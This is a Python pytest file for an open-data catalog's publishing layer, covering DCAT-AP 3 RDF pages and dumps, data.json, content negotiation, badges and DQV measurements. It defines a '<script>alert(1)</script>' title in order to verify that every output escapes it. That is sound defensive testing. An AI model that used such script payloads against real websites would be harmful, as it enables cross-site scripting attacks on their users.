"""Catalog publishing: DCAT-AP 3 pages and streamed dumps, tables, /data.json, per-dataset formats, badges, DQV.

The catalog is the demo government (data_samples harvested through the real harvesters)
or records built here; every output is read back with a real parser (rdflib, the
DCAT mapper, ElementTree, csv, the POD JSON Schema, our own datajson harvester).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import urlsplit

import pyshacl
import pytest
import rdflib
from rdflib import Literal, URIRef
from rdflib.compare import isomorphic
from rdflib.namespace import RDF, SH
from sqlalchemy import select, update

from app import auth
from app import settings as settings_mod
from app.export import routes, stream_rdf
from catalog_schema import ckan, dcat, readers, search
from catalog_schema import db as dbmod
from catalog_schema.datajson import validation_errors as pod_errors
from catalog_schema.models import Assessment, Dataset, HarvestSource
from catalog_schema.record import new_distribution, new_record, pick_text
from catalog_schema.store import save_record, to_record
from tests.support.wsgiserver import ServedApp

REAL = Path(__file__).resolve().parents[1] / "fixtures" / "real"
SITE = "http://127.0.0.1:5000"  # the SITE_URL default: the URIs the app writes
DCATNS = rdflib.Namespace("http://www.w3.org/ns/dcat#")
DCT = rdflib.Namespace("http://purl.org/dc/terms/")
HYDRA = rdflib.Namespace("http://www.w3.org/ns/hydra/core#")
DQV = rdflib.Namespace("http://www.w3.org/ns/dqv#")
XSS = "<script>alert(1)</script>"
RDF_MEDIA = {"ttl": "text/turtle", "rdf": "application/rdf+xml", "jsonld": "application/ld+json",
             "nt": "application/n-triples"}
PARSER = {"ttl": "turtle", "rdf": "xml", "jsonld": "json-ld", "nt": "nt"}


def _runtime(db_url: str, tmp_path: Path, **extra):
    from app.jobs import Runtime

    values = settings_mod.load({})
    values.update(DATABASE_URL=db_url, INSTANCE_DIR=str(tmp_path / "rt"), ARCHIVE_DIR=str(tmp_path / "archive"),
                  ALLOW_HOSTS=["127.0.0.1"], **extra)
    return Runtime(values)


@pytest.fixture
def demo(snapshot, db_url, tmp_path):
    """The demo catalog harvested into the test database; returns {slug: title langmap} of the active datasets.
    Built once per backend, a copy for each test."""
    return snapshot.once(lambda: _harvest_demo(db_url, tmp_path))


def _harvest_demo(db_url: str, tmp_path: Path) -> dict:
    from app.demo import load_samples

    rt = _runtime(db_url, tmp_path)
    summaries = load_samples(rt)
    assert all(s["status"] == "finished" for s in summaries.values())
    with rt.sessionmaker() as session:
        found = {ds.slug: dict(ds.title) for ds in session.scalars(select(Dataset).where(Dataset.state == "active"))}
    rt.close()
    assert len(found) >= 20
    return found


def complete(slug: str, title: dict, n: int = 0) -> dict:
    """A record with every field DCAT-AP 3 checks filled in."""
    return new_record(
        slug=slug, uri=f"https://source.example.org/ds/{n}", identifier=f"ID-{n}", title=title,
        description={"en": f"Hourly readings, series {n}", "zh": "每小时读数"},
        publisher={"slug": "env", "name": {"en": "Environment Agency"}, "homepage": "https://env.example.gov",
                   "email": "data@env.example.gov"},
        contact_point={"name": "Open data desk", "email": "opendata@env.example.gov"},
        keywords=["air", "pollution"], themes=["ENVI"], license="CC-BY-4.0",
        license_raw="https://creativecommons.org/licenses/by/4.0/", access_rights="PUBLIC",
        issued="2020-01-01", modified="2024-05-01T10:00:00Z", temporal={"start": "2019-01-01", "end": "2023-12-31"},
        spatial=["http://sws.geonames.org/2635167/"], frequency="DAILY", landing_page=f"https://env.example.gov/{n}",
        language=["en"], version="2.1",
        distributions=[new_distribution(id=f"csv{n}-{k}", title={"en": f"Readings {k}"},
                                        download_url=f"https://env.example.gov/{n}/data{k}.csv", format="CSV",
                                        media_type="text/csv", license="CC-BY-4.0",
                                        license_raw="https://creativecommons.org/licenses/by/4.0/", byte_size=1024,
                                        checksum={"algorithm": "sha256", "value": "ab" * 32}) for k in range(2)])


def _save(session, records) -> None:
    for rec in records:
        ds, _ = save_record(session, rec)
        search.index_dataset(session, ds)
    session.commit()


def _db_titles(session) -> dict[str, str]:
    return {f"{SITE}/dataset/{ds.slug}": pick_text(ds.title)
            for ds in session.scalars(select(Dataset).where(Dataset.state == "active"))}


def _dataset_titles(graph: rdflib.Graph) -> dict[str, set[str]]:
    return {str(s): {str(o) for o in graph.objects(s, DCT.title)} for s in graph.subjects(RDF.type, DCATNS.Dataset)}


def _path(url: str) -> str:
    parts = urlsplit(url)
    return parts.path + ("?" + parts.query if parts.query else "")


# --------------------------------------------------------------------------- the streaming writer (no database)


def _real_records() -> list[dict]:
    out = []
    for name in ("bremen_catalog.rdf", "destatis_catalog.rdf", "unibo_catalog.rdf", "gob_es_dataset.ttl"):
        out += dcat.parse_catalog((REAL / "dcat" / name).read_bytes()).records
    return out


def test_each_streamed_dataset_is_the_graph_of_the_mapper_on_real_catalogs():
    # One mapping (catalog_schema.dcat_triples) feeds both; this holds the writer (N-Triples, Turtle, the
    # shared-node filter, blank-node labels) to rdflib's Graph and serialiser, dataset by dataset.
    records = _real_records() + [complete("full", {"en": XSS, "zh": "空气"}), new_record(slug="bare", title={"": "x"})]
    assert len(records) == 153 + 135 + 12 + 1 + 2
    info = {"title": {"en": "T"}, "description": {"en": "D"}, "publisher": {"name": {"en": "P"}}}
    for rec in records:
        expected = dcat.catalog_to_rdf([rec], site_url=SITE, catalog_info=info)
        for fmt, parser in (("nt", "nt"), ("ttl", "turtle")):
            text = "".join(stream_rdf.stream_catalog([rec], fmt, site_url=SITE, catalog_info=info))
            ours = rdflib.Graph().parse(data=text, format=parser)
            assert isomorphic(ours, expected), (fmt, rec.get("slug") or rec.get("uri"))


def test_streamed_turtle_and_ntriples_hold_the_same_graph():
    records = _real_records()[:60]
    info = {"title": {"en": "T"}, "description": {"en": "D"}, "publisher": {"name": {"en": "P"}}}
    nt = "".join(stream_rdf.stream_catalog(records, "nt", site_url=SITE, catalog_info=info))
    ttl = "".join(stream_rdf.stream_catalog(records, "ttl", site_url=SITE, catalog_info=info))
    assert ttl.startswith("@prefix rdf:") and ttl.count("@prefix dcat:") == 1
    g_nt, g_ttl = rdflib.Graph().parse(data=nt, format="nt"), rdflib.Graph().parse(data=ttl, format="turtle")
    assert isomorphic(g_nt, g_ttl)
    expected = dcat.catalog_to_rdf(records, site_url=SITE, catalog_info=info)
    assert isomorphic(g_nt, expected)
    parsed = dcat.parse_catalog(ttl)
    assert [pick_text(r["title"]) for r in parsed.records] == [pick_text(r["title"]) for r in records]


# --------------------------------------------------------------------------- the database reader


def test_fast_reader_gives_the_records_to_record_gives(demo, session):
    rows = session.scalars(select(Dataset).where(Dataset.state == "active").order_by(Dataset.slug)).all()
    expected = [to_record(ds) for ds in rows]
    got = list(readers.iter_records(session, batch=4))
    assert [r["slug"] for r in got] == [r["slug"] for r in expected]
    assert got == expected
    assert sum(len(r["distributions"]) for r in got) >= len(got)


# --------------------------------------------------------------------------- formats


def test_every_catalog_format_answers_and_the_rdf_gives_back_the_database(demo, client, session):
    db = _db_titles(session)
    for ext, media in RDF_MEDIA.items():
        resp = client.get(f"/catalog.{ext}?per_page=1000")
        assert resp.status_code == 200 and resp.mimetype == media, ext
        assert resp.headers["Content-Type"].count("charset") <= 1, resp.headers["Content-Type"]  # one charset
        graph = rdflib.Graph().parse(data=resp.data, format=PARSER[ext])
        assert _dataset_titles(graph).keys() == db.keys()
        parsed = dcat.parse_catalog(resp.data, format=PARSER[ext])
        assert len(parsed.records) == len(db) and parsed.errors == []
        assert sorted(pick_text(r["title"]) for r in parsed.records) == sorted(db.values())
        assert parsed.total_items == len(db)
        cat = next(graph.subjects(RDF.type, DCATNS.Catalog))
        assert graph.value(cat, DCT.title) is not None and graph.value(cat, DCT.publisher) is not None
    for ext, media in (("csv", "text/csv"), ("xml", "application/xml"), ("json", "application/json")):
        resp = client.get(f"/catalog.{ext}")
        assert resp.status_code == 200 and resp.mimetype == media
    rows = list(csv.DictReader(io.StringIO(client.get("/catalog.csv").get_data(as_text=True))))
    assert sorted(r["slug"] for r in rows) == sorted(demo)
    root = ET.fromstring(client.get("/catalog.xml").data)
    assert sorted(d.get("slug") for d in root.iter("dataset")) == sorted(demo)
    assert sorted(d["slug"] for d in client.get("/catalog.json").get_json()["datasets"]) == sorted(demo)

    slug = sorted(demo)[0]
    for ext, media in {**RDF_MEDIA, "json": "application/json", "xml": "application/xml", "csv": "text/csv"}.items():
        resp = client.get(f"/dataset/{slug}.{ext}")
        assert resp.status_code == 200 and resp.mimetype == media, ext
        if ext in PARSER:
            one = dcat.parse_catalog(resp.data, format=PARSER[ext]).records
            assert [r["title"] for r in one] == [demo[slug]]
    assert client.get(f"/dataset/{slug}.json").get_json()["slug"] == slug
    assert client.get("/dataset/no-such-dataset.ttl").status_code == 404


def test_hydra_pages_walk_the_whole_catalog_once(demo, client, session):
    url, seen, pages, total = "/catalog.ttl?per_page=4", [], 0, None
    while url:
        resp = client.get(url)
        assert resp.status_code == 200
        graph = rdflib.Graph().parse(data=resp.data, format="turtle")
        page_node = next(graph.subjects(RDF.type, HYDRA.PagedCollection))
        total = int(graph.value(page_node, HYDRA.totalItems))
        assert int(graph.value(page_node, HYDRA.itemsPerPage)) == 4
        assert graph.value(page_node, HYDRA.first) is not None and graph.value(page_node, HYDRA.last) is not None
        if pages:
            assert graph.value(page_node, HYDRA.previous) is not None
        found = sorted(_dataset_titles(graph))
        assert 1 <= len(found) <= 4
        seen += found
        pages += 1
        nxt = graph.value(page_node, HYDRA.next)
        url = _path(str(nxt)) if nxt is not None else None
    assert len(seen) == len(set(seen)) == total == len(demo)
    assert set(seen) == set(_db_titles(session))
    assert pages == -(-len(demo) // 4)
    assert client.get("/catalog.ttl?per_page=5000").status_code == 200  # capped, not refused
    big = rdflib.Graph().parse(data=client.get("/catalog.ttl?per_page=5000").data, format="turtle")
    assert int(next(big.objects(None, HYDRA.itemsPerPage))) == 1000
    assert client.get("/catalog.ttl?page=99").status_code == 404
    assert client.get("/catalog.ttl?page=x").status_code == 400


def test_modified_since_filters_pages_and_dumps(demo, client, session):
    old = sorted(demo)[: len(demo) // 2]
    session.execute(update(Dataset).where(Dataset.slug.in_(old))
                    .values(modified_at=dt.datetime(2020, 1, 1, tzinfo=dt.UTC)))
    session.commit()
    recent = {f"{SITE}/dataset/{s}" for s in demo if s not in old}
    for url in ("/catalog.ttl?per_page=1000&modified_since=2024-01-01T00:00:00Z",
                "/catalog.ttl?page=all&modified_since=2024-01-01"):
        graph = rdflib.Graph().parse(data=client.get(url).data, format="turtle")
        assert set(_dataset_titles(graph)) == recent, url
    graph = rdflib.Graph().parse(data=client.get("/catalog.nt?page=all&modified_since=2019-06-01").data, format="nt")
    assert len(_dataset_titles(graph)) == len(demo)
    assert client.get("/catalog.ttl?modified_since=yesterday").status_code == 400
    # the API's error shape, in the reader's language (it was {"error": "page must be at least 1"}, English only)
    for url, said in (("/catalog.ttl?page=0", "page 至少为 1"), ("/catalog.ttl?modified_since=yesterday",
                                                             "modified_since 不是 ISO 8601 日期/时间")):
        error = client.get(url, headers={"Accept-Language": "zh-CN"}).get_json()["error"]
        assert error["status"] == 400 and error["code"] == "bad-request" and said in error["message"], error
    # a page past the last, and a method a feed does not take, in the same shape (werkzeug's English HTML page,
    # and for a DELETE "the form has expired", before); a browser still gets the site's 404 page
    past = client.get("/catalog.ttl?page=9999", headers={"Accept": "text/turtle"})
    assert past.status_code == 404 and past.get_json()["error"]["code"] == "not-found"
    assert "<html" in client.get("/catalog.ttl?page=9999", headers={"Accept": "text/html"}).get_data(as_text=True)
    for method, url in (("DELETE", "/data.json"), ("POST", "/catalog.ttl"), ("PUT", "/catalog.rdf")):
        refused = client.open(url, method=method)
        assert refused.status_code == 405 and refused.get_json()["error"]["code"] == "method-not-allowed", url
        assert "GET" in refused.headers["Allow"]


def test_full_dump_equals_the_union_of_pages(demo, client):
    union: dict[str, set[str]] = {}
    url = "/catalog.nt?per_page=7"
    while url:
        graph = rdflib.Graph().parse(data=client.get(url).data, format="nt")
        for uri, titles in _dataset_titles(graph).items():
            assert uri not in union
            union[uri] = titles
        nxt = next(graph.objects(None, HYDRA.next), None)
        url = _path(str(nxt)) if nxt is not None else None
    for path, fmt in (("/catalog.nt?page=all", "nt"), ("/catalog.ttl?page=all", "turtle"),
                      ("/catalog/dump.nt", "nt"), ("/catalog/dump.ttl", "turtle")):
        resp = client.get(path)
        assert resp.status_code == 200 and resp.is_streamed
        graph = rdflib.Graph().parse(data=resp.data, format=fmt)
        assert _dataset_titles(graph) == union, path
        parsed = dcat.parse_catalog(resp.data, format=fmt)
        assert len(parsed.records) == len(demo) and parsed.errors == []
    assert client.get("/catalog.rdf?page=all").status_code == 400


@pytest.fixture(scope="module")
def shapes() -> rdflib.Graph:
    return rdflib.Graph().parse(REAL / "shacl" / "dcat-ap_3_shacl_shapes.ttl", format="turtle")


def test_streamed_dump_of_complete_records_passes_the_dcat_ap_3_shapes(client, session, shapes):
    _save(session, [complete(f"air-{n}", {"en": f"Air quality {n}", "zh": f"空气质量 {n}"}, n) for n in range(3)]
          + [complete("xss", {"en": XSS}, 9)])
    for path, fmt in (("/catalog/dump.ttl", "turtle"), ("/catalog/dump.nt", "nt"), ("/catalog.ttl", "turtle")):
        graph = rdflib.Graph().parse(data=client.get(path).data, format=fmt)
        assert len(_dataset_titles(graph)) == 4
        conforms, report, _ = pyshacl.validate(graph, shacl_graph=shapes, inference="none", advanced=False)
        violations = [(str(report.value(r, SH.focusNode)), str(report.value(r, SH.resultPath)))
                      for r in report.subjects(RDF.type, SH.ValidationResult)]
        assert violations == [] and conforms, (path, violations)
        # DCAT-AP's recommended properties of the catalog itself (a validator of the recommended shapes warned of
        # their absence): the languages of its metadata and the vocabulary of its themes, with a title
        from rdflib.namespace import DCAT, DCTERMS  # not at the module's top: pytest's collection reads its names

        cat = next(graph.subjects(RDF.type, DCAT.Catalog))
        assert {str(o).rsplit("/", 1)[1] for o in graph.objects(cat, DCTERMS.language)} == {"ZHO", "ENG"}, path
        scheme = graph.value(cat, DCAT.themeTaxonomy)
        assert str(scheme) == "http://publications.europa.eu/resource/authority/data-theme", path
        assert graph.value(scheme, DCTERMS.title) is not None, path


def incomplete_records() -> list[dict]:
    """Real harvested records that lack what the standards require, and one made to lack everything else.

    Bremen's DCAT-AP.de catalog, parsed from the address a harvest fetches it from: empty dcat:accessURL,
    e-mail addresses written without mailto: (so the RDF parser resolves them against that address),
    languages as EU authority IRIs (GER), no dct:modified."""
    parsed = dcat.parse_catalog((REAL / "dcat" / "bremen_catalog.rdf").read_bytes(),
                                base="http://127.0.0.1:8000/dcat/catalog.rdf")
    bare = complete("bare", {"en": "Bare"}, 90)
    bare.update(description={}, keywords=[], themes=[], modified=None, issued=None, contact_point=None,
                language=["http://publications.europa.eu/resource/authority/language/ENG", "Klingon words"])
    bare["publisher"] = {"slug": "nameless", "name": {}}
    bare["distributions"][0].update(download_url=None, access_url="")
    # no publisher (a CKAN package with no organization) and a licence that is neither known nor a URI
    orphan = complete("orphan", {"zh": "无主数据"}, 91)
    orphan.update(publisher=None, license=None, license_raw="不存在的协议")
    return [*parsed.records, bare, orphan]


def test_incomplete_records_are_published_valid_in_every_standard(client, app, session, shapes):
    """DCAT-AP 3 (pyshacl with the official shapes) and POD v1.1 (its JSON Schema) accept what we publish of
    records that lack what they require: the documented fallbacks fill each gap, and the record's own gaps
    stay findings for its publisher."""
    records = incomplete_records()
    assert len(records) > 100
    _save(session, records)
    app.config["OPENDATA"]["CONTACT_EMAIL"] = "opendata@portal.example.gov"
    graph = rdflib.Graph().parse(data=client.get("/catalog/dump.ttl").data, format="turtle")
    assert len(_dataset_titles(graph)) == len(records)
    conforms, report, _ = pyshacl.validate(graph, shacl_graph=shapes, inference="none", advanced=False)
    violations = {(str(report.value(r, SH.resultPath)), str(report.value(r, SH.sourceShape)))
                  for r in report.subjects(RDF.type, SH.ValidationResult)}
    assert (conforms, violations) == (True, set())

    document = json.loads(client.get("/data.json").data)
    assert pod_errors(document) == []
    bare = next(d for d in document["dataset"] if d["identifier"] == "ID-90")
    assert bare["description"] == "Bare" and bare["keyword"] == ["nameless"] and bare["language"] == ["en"]
    assert bare["contactPoint"] == {"fn": "nameless", "hasEmail": "mailto:opendata@portal.example.gov"}
    assert bare["modified"] == dt.datetime.now(dt.UTC).date().isoformat()  # when the catalog's copy changed
    assert bare["distribution"][0]["accessURL"] == bare["landingPage"]
    orphan = next(d for d in document["dataset"] if d["identifier"] == "ID-91")  # the portal publishes it
    assert orphan["publisher"] == {"@type": "org:Organization", "name": app.config["OPENDATA"]["SITE_PUBLISHER"]}
    assert "license" not in orphan
    bremen = [d for d in document["dataset"] if d.get("publisher", {}).get("name") == "Freie und Hansestadt Bremen"]
    assert bremen and all(d["language"] == ["de"] for d in bremen if "language" in d)
    emails = {d["contactPoint"]["hasEmail"] for d in bremen}
    assert "mailto:transparenz@finanzen.bremen.de" in emails and not any("127.0.0.1" in e for e in emails)

    gaps = dcat.shacl_violations_fast(next(r for r in records if r["slug"] == "bare"))
    assert {g["path"] for g in gaps} >= {"dct:description", "dct:publisher/foaf:name",
                                         "dcat:distribution[0]/dcat:accessURL"}


def test_data_dictionaries_are_linked_from_data_json_and_dcat_and_resolve(client, session, shapes):
    """A table with a data dictionary: data.json's describedBy/describedByType and DCAT-AP 3's dct:conformsTo
    (a dct:Standard) point at its schema.json, which answers a Table Schema frictionless accepts; the POD
    schema and the DCAT-AP 3 shapes still pass; a table without one gets no link."""
    from frictionless import Schema

    _save(session, [complete("air-dict", {"en": "Air quality"}, 5)])
    ds = session.scalar(select(Dataset).where(Dataset.slug == "air-dict"))
    with_dict, without = ds.distributions
    with_dict.dictionary = {"sha256": "ab" * 32, "inferred": {
        "fields": [{"name": "station", "type": "string", "title": None, "unit": None, "description": None},
                   {"name": "pm25", "type": "number", "title": None, "unit": "μg/m³", "description": "PM2.5"}],
        "notes": {"above": [], "below": []}}}
    # read and checked for personal data (none found), as every table with a dictionary is: schema.json is
    # served through the gate as the data it describes
    with_dict.archive_hash, with_dict.pii = "ab" * 32, {"sha256": "ab" * 32, "columns": {}}
    session.commit()

    document = json.loads(client.get("/data.json").data)
    assert pod_errors(document) == []
    entry = next(d for d in document["dataset"] if d["identifier"] == "ID-5")
    linked = [d for d in entry["distribution"] if "describedBy" in d]
    url = f"{SITE}/dataset/air-dict/resource/{with_dict.id}/schema.json"
    assert [(d["describedBy"], d["describedByType"]) for d in linked] == [(url, "application/table-schema+json")]
    assert not any("describedBy" in d for d in entry["distribution"] if d is not linked[0])

    resp = client.get(_path(url))
    assert resp.status_code == 200 and resp.mimetype == "application/table-schema+json"
    schema = resp.get_json()
    assert Schema.validate_descriptor(schema).valid
    assert [(f["name"], f["type"], f.get("unit")) for f in schema["fields"]] == [("station", "string", None),
                                                                                 ("pm25", "number", "μg/m³")]
    assert client.get(f"/dataset/air-dict/resource/{without.id}/schema.json").status_code == 404

    for path, fmt in (("/catalog/dump.ttl", "turtle"), ("/catalog.ttl", "turtle"), ("/dataset/air-dict.ttl", "turtle"),
                      ("/dataset/air-dict.rdf", "xml")):
        graph = rdflib.Graph().parse(data=client.get(path).data, format=fmt)
        standards = {(str(s), str(o)) for s, o in graph.subject_objects(DCT.conformsTo)
                     if (o, RDF.type, DCT.Standard) in graph}
        assert any(o == url for _, o in standards), path
        dist_node = next(s for s, o in standards if o == url)
        assert (None, DCATNS.distribution, URIRef(dist_node)) in graph
        assert len([o for s, o in standards if o.endswith("/schema.json")]) == 1, path
        conforms, report, _ = pyshacl.validate(graph, shacl_graph=shapes, inference="none", advanced=False)
        violations = [(str(report.value(r, SH.focusNode)), str(report.value(r, SH.resultPath)))
                      for r in report.subjects(RDF.type, SH.ValidationResult)]
        assert violations == [] and conforms, (path, violations)


# --------------------------------------------------------------------------- data.json


def test_data_json_is_valid_pod_and_our_harvester_reads_it_back(demo, app_config, tmp_path):
    from app import create_app
    from app.jobs import harvest

    live = create_app(app_config)
    served = ServedApp(live)
    base = served.url
    live.config["OPENDATA"]["SITE_URL"] = base  # the port is known once the socket is bound
    target_url = f"sqlite:///{tmp_path / 'roundtrip.db'}"
    dbmod.upgrade(target_url)
    rt = _runtime(target_url, tmp_path)
    try:
        import requests

        resp = requests.get(base + "/data.json", timeout=30)
        assert resp.status_code == 200 and resp.headers["Content-Type"].startswith("application/json")
        document = resp.json()
        assert pod_errors(document) == []
        assert len(document["dataset"]) == len(demo)
        with rt.sessionmaker() as s:
            s.add(HarvestSource(name="ourselves", type="datajson", url=base + "/data.json"))
            s.commit()
        summary = harvest(rt, "ourselves", full=True)
        assert (summary.status, summary.added, summary.errored) == ("finished", len(demo), 0)
        with rt.sessionmaker() as s:
            harvested = s.scalars(select(Dataset)).all()
            got = sorted((pick_text(d.title), sorted(x.download_url or x.access_url or "" for x in d.distributions))
                         for d in harvested)
    finally:
        rt.close()
        served.close()
    want = sorted((pick_text(d["title"]), sorted(x.get("downloadURL") or x.get("accessURL") or ""
                                                  for x in d.get("distribution") or []))
                  for d in document["dataset"])
    assert got == want
    assert sorted(t for t, _ in got) == sorted(pick_text(t) for t in demo.values())


# --------------------------------------------------------------------------- negotiation, XSS, badges, DQV


def test_content_negotiation_honours_q_values(demo, client):
    slug = sorted(demo)[0]
    cases = {"text/turtle;q=0.5, application/ld+json;q=0.9": "application/ld+json",
             "text/turtle": "text/turtle", "application/rdf+xml": "application/rdf+xml",
             "application/n-triples, text/html;q=0.1": "application/n-triples",
             "application/json": "application/json", "text/html": "text/html", "*/*": "text/html",
             "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8": "text/html",
             # a type that is not text/html never answers the page (it was the page, as XHTML's, sent as text/html)
             "application/*": "application/rdf+xml", "application/*;q=0.9, text/html;q=0.1": "application/rdf+xml"}
    for accept, media in cases.items():
        resp = client.get(f"/dataset/{slug}", headers={"Accept": accept})
        assert resp.status_code == 200 and resp.mimetype == media, accept
        assert "Accept" in resp.headers.get("Vary", "")
    assert client.get(f"/dataset/{slug}").mimetype == "text/html"
    assert client.get(f"/dataset/{slug}", headers={"Accept": "image/png"}).status_code == 406
    assert client.get(f"/dataset/{slug}", headers={"Accept": "application/xhtml+xml"}).status_code == 406
    for accept in ("application/json", "text/turtle", "application/ld+json"):  # an unknown dataset asked for data: the
        missing = client.get("/dataset/no-such-dataset", headers={"Accept": accept})  # API's error, not werkzeug's page
        assert missing.status_code == 404 and missing.get_json()["error"]["code"] == "not-found", accept
    graph = rdflib.Graph().parse(data=client.get(f"/dataset/{slug}", headers={"Accept": "text/turtle"}).data,
                                 format="turtle")
    assert {str(o) for o in graph.objects(URIRef(f"{SITE}/dataset/{slug}"), DCT.title)} == set(demo[slug].values())


def test_script_titles_are_escaped_everywhere(client, session):
    _save(session, [complete("xss", {"en": XSS, "zh": XSS + "中"}, 1)])
    ds = session.scalar(select(Dataset).where(Dataset.slug == "xss"))
    ds.stars = 3
    session.commit()
    for path in ("/catalog.xml", "/dataset/xss.xml"):
        root = ET.fromstring(client.get(path).data)
        assert not list(root.iter("script"))
        assert XSS in [t.text for t in root.iter("title")]
    for path, fmt in (("/dataset/xss.ttl", "turtle"), ("/dataset/xss.rdf", "xml"), ("/dataset/xss.nt", "nt"),
                      ("/dataset/xss.jsonld", "json-ld"), ("/catalog/dump.ttl", "turtle"),
                      ("/catalog.rdf", "xml")):
        graph = rdflib.Graph().parse(data=client.get(path).data, format=fmt)
        assert Literal(XSS, lang="en") in set(graph.objects(URIRef(f"{SITE}/dataset/xss"), DCT.title)), path
    rdfxml = client.get("/dataset/xss.rdf").get_data(as_text=True)
    assert "<script>" not in rdfxml and "&lt;script&gt;" in rdfxml
    rows = list(csv.DictReader(io.StringIO(client.get("/catalog.csv").get_data(as_text=True))))
    assert rows[0]["title_en"] == XSS
    svg = client.get("/dataset/xss/badge.svg").get_data(as_text=True)
    assert "<script" not in svg and "&lt;script&gt;alert(1)&lt;/script&gt;" in svg
    ET.fromstring(svg)  # well-formed
    page = client.get("/dataset/xss", headers={"Accept": "text/html"}).get_data(as_text=True)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and XSS not in page
    assert "</script" not in page.split('<script type="application/ld+json">', 1)[1].split("</script>", 1)[0]


def test_badges_are_cacheable_and_count_stars(demo, client, session):
    slugs = sorted(demo)
    ds = session.scalar(select(Dataset).where(Dataset.slug == slugs[0]))
    ds.stars = 4
    pub_slug = ds.publisher.slug
    session.execute(update(Dataset).where(Dataset.slug == slugs[1]).values(stars=None))
    session.commit()
    resp = client.get(f"/dataset/{slugs[0]}/badge.svg")
    assert resp.status_code == 200 and resp.mimetype == "image/svg+xml"
    assert resp.headers["Cache-Control"] == "public, max-age=3600" and resp.headers.get("ETag")
    assert "★★★★☆" in resp.get_data(as_text=True)
    assert client.get(f"/dataset/{slugs[0]}/badge.svg", headers={"If-None-Match": resp.headers["ETag"]}
                      ).status_code == 304
    unrated = client.get(f"/dataset/{slugs[1]}/badge.svg").get_data(as_text=True)
    assert "not assessed" in unrated
    others = session.scalars(select(Dataset).where(Dataset.publisher_id == ds.publisher_id,
                                                   Dataset.id != ds.id)).all()
    for other in others:
        other.stars = 2
    session.commit()
    expected = (4 + 2 * len(others)) / (1 + len(others))
    pub = client.get(f"/publisher/{pub_slug}/badge.svg")
    assert pub.status_code == 200 and f"{expected:.1f} ({1 + len(others)})" in pub.get_data(as_text=True)
    assert pub.headers["Cache-Control"] == "public, max-age=3600"
    assert client.get("/publisher/nobody/badge.svg").status_code == 404
    assert client.get("/dataset/nothing/badge.svg").status_code == 404


def test_assessments_are_published_as_dqv_measurements(client, session):
    _save(session, [complete("air", {"en": "Air"}, 1)])
    ds = session.scalar(select(Dataset).where(Dataset.slug == "air"))
    dist_ids = [d.id for d in ds.distributions]
    session.add(Assessment(dataset_id=ds.id, assessed_at=dt.datetime(2026, 1, 5, tzinfo=dt.UTC), rule_version="1",
                           stars=3, score=71, metadata_points=250, metadata_rating="good", subscores={}, data={},
                           distributions=[{"id": dist_ids[0], "stars": 3}, {"id": dist_ids[1], "stars": 1}],
                           findings=[]))
    session.commit()
    graph = rdflib.Graph().parse(data=client.get("/dataset/air.ttl").data, format="turtle")
    ds_uri = URIRef(f"{SITE}/dataset/air")
    values = {}
    for m in graph.subjects(RDF.type, DQV.QualityMeasurement):
        target = graph.value(m, DQV.computedOn)
        assert (target, DQV.hasQualityMeasurement, m) in graph
        values[(str(target), str(graph.value(m, DQV.isMeasurementOf)))] = graph.value(m, DQV.value).toPython()
    assert values == {
        (str(ds_uri), f"{SITE}/quality/metric/stars"): 3, (str(ds_uri), f"{SITE}/quality/metric/score"): 71,
        (str(ds_uri), f"{SITE}/quality/metric/metadata-points"): 250,
        (f"{ds_uri}/resource/csv1-0", f"{SITE}/quality/metric/distribution-stars"): 3,
        (f"{ds_uri}/resource/csv1-1", f"{SITE}/quality/metric/distribution-stars"): 1,
    }
    assert (URIRef(f"{ds_uri}/resource/csv1-0"), RDF.type, DCATNS.Distribution) in graph
    metric = rdflib.Graph().parse(data=client.get("/quality/metric/stars").data, format="turtle")
    assert (URIRef(f"{SITE}/quality/metric/stars"), RDF.type, DQV.Metric) in metric
    assert client.get("/quality/metric/nothing").status_code == 404


def test_page_helpers_alternates_and_schema_org(app):
    rec = complete("air", {"en": "Air quality"}, 1)
    with app.test_request_context("/"):
        links = dict((url, media) for media, url in routes.alternate_links("air"))
        doc = routes.schema_org_jsonld(rec)
    assert links["/dataset/air.ttl"] == "text/turtle" and links["/dataset/air.jsonld"] == "application/ld+json"
    assert len(links) == 7
    assert doc["@type"] == "Dataset" and doc["name"] == "Air quality" and doc["url"] == f"{SITE}/dataset/air"
    assert doc["license"] == "https://creativecommons.org/licenses/by/4.0/"
    assert doc["publisher"]["name"] == "Environment Agency" and doc["creator"] == doc["publisher"]
    assert doc["temporalCoverage"] == "2019-01-01/2023-12-31" and doc["keywords"] == ["air", "pollution"]
    assert doc["spatialCoverage"] == [{"@type": "Place", "name": "http://sws.geonames.org/2635167/"}]
    assert [d["contentUrl"] for d in doc["distribution"]] == [f"https://env.example.gov/1/data{k}.csv"
                                                              for k in range(2)]
    assert all(d["encodingFormat"] == "text/csv" for d in doc["distribution"])
    # the JSON-LD is what rdflib reads as a schema:Dataset
    graph = rdflib.Graph().parse(data=json.dumps({**doc, "@context": {"@vocab": "https://schema.org/"}}),
                                 format="json-ld")
    assert (URIRef(f"{SITE}/dataset/air"), RDF.type, URIRef("https://schema.org/Dataset")) in graph


def test_schema_org_keeps_a_sources_licence_url(app):
    """CC BY 3.0 IT (.../by/3.0/it/) was published as the unported licence's URL."""
    rec = complete("it", {"it": "Dati"}, 2)
    rec.update(license="CC-BY-3.0", license_raw="http://creativecommons.org/licenses/by/3.0/it/")
    with app.test_request_context("/"):
        assert routes.schema_org_jsonld(rec)["license"] == "http://creativecommons.org/licenses/by/3.0/it/"


def test_schema_org_publishes_only_real_dates(app):
    """datePublished, dateModified and temporalCoverage follow the rule DCAT publishes by (catalog_schema.dates):
    search engines read "2023-13-01" or "yesterday-ish" as an invalid Dataset."""
    rec = complete("dates", {"en": "Dates"}, 1)
    rec.update(issued="2023-13-01", modified="yesterday-ish", temporal={"start": "2020年3月", "end": "2023-02-30"})
    with app.test_request_context("/"):
        doc = routes.schema_org_jsonld(rec)
    assert "datePublished" not in doc and "dateModified" not in doc
    assert doc["temporalCoverage"] == "2020-03/.."
    rec.update(issued="2024年3月1日", modified="2024-05-01 10:00:00+0800", temporal={"start": "bad", "end": ""})
    with app.test_request_context("/"):
        doc = routes.schema_org_jsonld(rec)
    assert (doc["datePublished"], doc["dateModified"]) == ("2024-03-01", "2024-05-01T10:00:00+08:00")
    assert "temporalCoverage" not in doc


def test_streamed_pages_are_the_graph_rdflib_builds(demo, client):
    """Turtle and N-Triples pages come from the streaming writer; RDF/XML still from rdflib: same graph."""
